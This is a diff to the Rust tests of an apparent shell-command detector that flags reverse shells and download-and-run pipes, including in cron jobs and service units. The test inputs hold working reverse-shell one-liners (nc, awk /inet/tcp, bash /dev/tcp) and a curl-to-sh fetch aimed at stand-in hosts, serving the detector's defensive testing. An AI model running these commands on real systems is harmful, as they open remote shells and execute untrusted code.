@@ -69,6 +69,8 @@ fn reverse_shells() {
         "socat tcp-connect:10.0.0.1:4444 exec:/bin/sh,pty,stderr,setsid",
         "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f",
         "telnet 10.0.0.1 4444 | /bin/bash | telnet 10.0.0.1 4445",
+        "nc 10.0.0.1 4444 | /bin/sh | nc 10.0.0.1 4445",
+        r#"awk 'BEGIN {s = "/inet/tcp/0/10.0.0.1/4242"; while(42) { do{ printf "shell>" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit") close(s); }}' /dev/null"#,
     ] {
         assert_eq!(
             one(cmd),
@@ -120,6 +122,8 @@ fn everyday_commands_raise_nothing() {
         "curl -sL https://example.com/file | shasum -a 256",
         "wget https://example.com/file.tar.gz && tar xzf file.tar.gz",
         "nc -zv 10.0.0.1 22",
+        "echo QUIT | nc mail.example.com 25 | head -1",
+        "nc -l 8080 > upload.bin",
         "ncat -l 8080",
         "echo aGVsbG8= | base64 -d",
         "bash deploy.sh",
@@ -153,7 +157,13 @@ fn the_same_command_twice_is_one_alarm_with_both_references() {
         a.description
     );
     assert!(a.description.contains("Seen 2 times."));
-    assert_eq!(a.mitre, vec![mitre("execution", "T1059.004")]);
+    assert_eq!(
+        a.mitre,
+        vec![
+            mitre("execution", "T1059.004"),
+            mitre("command-and-control", "T1095")
+        ]
+    );
 }
 
 #[test]
@@ -263,4 +273,29 @@ fn non_commands_are_ignored() {
     let mut no_cmd = command(BOB, 2, "x");
     no_cmd.attributes.remove("cmd");
     assert!(ShellHistory.detect(&[e, no_cmd]).is_empty());
+}
+
+#[test]
+fn scheduled_entries_are_read_too() {
+    use crate::heuristics::testing::{cron_job, unit};
+    let events = vec![
+        cron_job(2, "/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1'"),
+        unit(
+            "net.service",
+            "/bin/sh -c 'curl -s http://203.0.113.9/a | sh'",
+        ),
+        cron_job(3, "nc -zv 10.0.0.1 22 | logger"),
+    ];
+    let got: Vec<_> = ShellHistory
+        .detect(&events)
+        .into_iter()
+        .map(|a| (a.detector, a.severity, a.event_refs))
+        .collect();
+    assert_eq!(
+        got,
+        vec![
+            ("reverse_shell".to_string(), Severity::High, vec![0]),
+            ("download_pipe_shell".to_string(), Severity::High, vec![1]),
+        ]
+    );
 }
